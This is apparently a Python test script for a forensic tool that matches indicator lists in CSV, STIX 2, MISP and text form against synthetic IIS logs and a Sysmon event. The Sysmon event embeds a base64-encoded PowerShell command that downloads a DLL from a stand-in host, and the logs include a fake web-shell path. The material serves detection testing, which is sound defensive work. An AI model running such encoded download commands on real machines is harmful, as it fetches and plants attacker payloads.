#!/usr/bin/env python3
"""Lists of indicators over made evidence: what is met and what nearly is, in every form of
output, from lists of every form; that a verdict never rests on them.

usage: test_indicators.py ASSAY
"""
import csv
import hashlib
import io
import json
import os
import pathlib
import subprocess
import sys
import tempfile

assay = os.path.abspath(sys.argv[1])
problems = []
checks = 0

IIS = ("#Software: Microsoft Internet Information Services 10.0\r\n"
       "#Fields: date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip "
       "cs(User-Agent) cs(Referer) sc-status sc-substatus sc-win32-status time-taken\r\n")
ROWS = [
    ("2021-03-03 06:00:00", "/owa/", "-", "203.0.113.7", "Made+Tool/1.0"),
    ("2021-03-03 06:00:01", "/owa/", "-", "203.0.113.77", "Made+Tool/1.01"),
    ("2021-03-09 06:00:02", "/owa/", "u=http%3A%2F%2Fevil.example.org%2Fa", "203.0.113.7", "x"),
    ("2021-03-09 06:00:03", "/owa/", "u=notevil.example.org", "192.0.2.1", "x"),
    ("2021-03-09 06:00:04", "/aspnet_client/bad.aspx", "-", "192.0.2.1", "x"),
]
EVENT = {"Event": {"System": {
    "Provider": {"#attributes": {"Name": "Microsoft-Windows-Sysmon"}}, "EventID": 1,
    "Channel": "Microsoft-Windows-Sysmon/Operational", "Computer": "SRV.example.com",
    "EventRecordID": 5, "TimeCreated": {"#attributes": {"SystemTime": "2021-03-03T07:00:00Z"}}},
    "EventData": {
        "CommandLine": "powershell -enc " + __import__("base64").b64encode(
            "iwr http://hidden.example.net/x -o C:\\Temp\\q.dll; Start-Sleep 5".encode("utf-16-le")
        ).decode(),
        "Image": "C:\\Windows\\System32\\cmd.exe",
        "Hashes": "MD5=C3AB8FF13720E8AD9047DD39466B3C89,IMPHASH=0123456789ABCDEF0123456789ABCDEF"}}}

LIST = """type,value,comment,tlp,valid_until,score
ip,203.0.113.7,a made server,amber,2021-03-05T00:00:00Z,90
domain,evil.example.org,,green,,
user-agent,Made Tool/1.0,,,,30
path,\\aspnet_client\\bad.aspx,,,,
nonsense,1,,,,
"""
BUNDLE = {"type": "bundle", "id": "bundle--1", "objects": [
    {"type": "indicator", "pattern_type": "stix", "name": "made",
     "pattern": "[url:value = 'http://hidden.example.net/x']",
     "object_marking_refs": ["marking-definition--e828b379-4e03-4974-9ac4-e53a884c97c1"]},
    {"type": "indicator", "pattern_type": "stix",
     "pattern": "[file:hashes.MD5 = 'c3ab8ff13720e8ad9047dd39466b3c89']"}]}
MISP = {"Event": {"info": "made", "Attribute": [
    {"type": "imphash", "value": "0123456789abcdef0123456789abcdef", "to_ids": True},
    {"type": "md5", "value": "0123456789abcdef0123456789abcdef", "to_ids": True}]}}


def same(what, got, want):
    """Notes what is not as it should be."""
    global checks
    checks += 1
    if got != want:
        problems.append(f"{what}: {got!r}, want {want!r}")


def run(*args, status=None):
    """Runs the program; returns what it printed."""
    done = subprocess.run([assay, *map(str, args)], capture_output=True, check=False)
    if status is not None:
        same(f"exit status of {' '.join(map(str, args[:2]))}", done.returncode, status)
    return done.stdout.decode(), done.stderr.decode()


def verdicts(document):
    """What the verdict says, without what stands beside it."""
    return [[(c["id"], c["entry"], c["backdoor"], c["action"], c["loss"], c["exposure"],
              c["coverage"]) for c in h["campaigns"]] for h in document["hosts"]]


with tempfile.TemporaryDirectory() as name:
    folder = pathlib.Path(name)
    evidence = folder / "evidence"
    lists = folder / "lists"
    evidence.mkdir()
    lists.mkdir()
    (evidence / "u_ex210303.log").write_bytes((IIS + "".join(
        f"{t} 10.0.0.5 GET {stem} {query} 443 - {ip} {agent} - 200 0 0 1\r\n"
        for t, stem, query, ip, agent in ROWS)).encode())
    (evidence / "events.json").write_text(json.dumps(EVENT) + "\n")
    (evidence / "dropped.bin").write_bytes(b"made content")
    (lists / "a.csv").write_text(LIST)
    (lists / "b.json").write_text(json.dumps(BUNDLE))
    (lists / "c.json").write_text(json.dumps(MISP))
    (lists / "d.txt").write_text(hashlib.sha1(b"made content").hexdigest() + "\n10.0.0.5\n")

    plain = json.loads(run("scan", evidence, "-f", "json")[0])
    same("without lists", plain["indicators"], None)
    text = run("scan", evidence, "-i", lists, "-f", "json", "-j", "1")[0]
    same("workers change nothing", run("scan", evidence, "-i", lists, "-f", "json", "-j", "3")[0],
         text)
    found = json.loads(text)
    same("the verdict", verdicts(found), verdicts(plain))
    same("TLP of the document", found["indicators"]["tlp"], "TLP:RED")
    same("forms", [x["form"] for x in found["indicators"]["lists"]],
         ["CSV", "STIX 2", "MISP", "text"])
    same("refused", [x["refused"] for x in found["indicators"]["lists"]], [1, 0, 0, 0])
    met = sorted((f["indicator"]["type"], f["indicator"]["value"], f["indicator"]["outdated"],
                  f["rule"]["level"], (f["how"] or "").split(":")[0])
                 for f in found["findings"] if f["indicator"] and not f["indicator"]["well_known"])
    same("what is met", met, [
        ("address", "203.0.113.7", False, "high", ""),
        ("address", "203.0.113.7", True, "informational", ""),
        ("domain", "evil.example.org", False, "medium", "percent-decoded"),
        ("file-path", "\\aspnet_client\\bad.aspx", False, "medium", ""),
        ("imphash", "0123456789abcdef0123456789abcdef", False, "medium", ""),
        ("md5", "c3ab8ff13720e8ad9047dd39466b3c89", False, "high", ""),
        ("sha1", hashlib.sha1(b"made content").hexdigest(), False, "high", ""),
        ("url", "http://hidden.example.net/x", False, "medium", "CommandLine"),
        ("user-agent", "Made Tool/1.0", False, "low", ""),
    ])
    known = [f for f in found["findings"] if f["indicator"] and f["indicator"]["well_known"]]
    same("the server's own address", ({f["rule"]["level"] for f in known}, len(known)),
         ({"informational"}, 5))
    same("sources", {f["rule"]["source"] for f in found["findings"] if f["indicator"]}, {"ioc"})

    rows = list(csv.DictReader(io.StringIO(run("scan", evidence, "-i", lists, "-f", "csv")[0])))
    same("CSV", sorted({(r["indicator_type"], r["tlp"]) for r in rows if r["tlp"]}),
         [("address", "TLP:AMBER"), ("domain", "TLP:GREEN"), ("url", "TLP:RED")])
    words = run("scan", evidence, "-i", lists)[0]
    for part in ("INDICATORS SEEN", "OUT OF DATE", "TLP:RED", "a made server",
                 "could not be used: 1"):
        same(f"text has {part}", part in words, True)

    case = folder / "x.case"
    run("scan", evidence, "-i", lists, "-o", case)
    url = next(f["id"] for f in found["findings"]
               if f["indicator"] and f["indicator"]["type"] == "url")
    for where in ([case], [evidence, "-i", lists]):
        got = json.loads(run("explain", *where, url, "-f", "json", status=0)[0])
        same("explain", "http://hidden.example.net/x in CommandLine; list b.json:1, TLP:RED"
             in got["findings"][0]["indicator"], True)

    (folder / "tune.yml").write_text("- rule: indicators:d.txt\n  suppress: true\n  reason: own\n")
    tuned = json.loads(run("scan", evidence, "-i", lists, "-t", folder / "tune.yml", "-f",
                           "json")[0])
    same("tuned away", sum(s["count"] for s in tuned["suppressed"]), 6)
    (folder / "p.yml").write_text("indicators: lists\n")
    same("profile", run("scan", evidence, "--profile", folder / "p.yml", "-f", "json")[0], text)

    out, _ = run("indicators", "check", lists, status=1)
    same("check", "a.csv:6: refused: of a type that is not looked for: 1" in out, True)
    run("indicators", "check", lists / "b.json", status=0)
    (folder / "no.bin").write_bytes(b"\0\1\2")
    run("indicators", "check", folder / "no.bin", status=2)
    run("scan", evidence, "-i", folder / "absent", status=2)

for problem in problems:
    print("FAILED: " + problem)
print(f"{checks} checks, {len(problems)} failed")
sys.exit(1 if problems else 0)
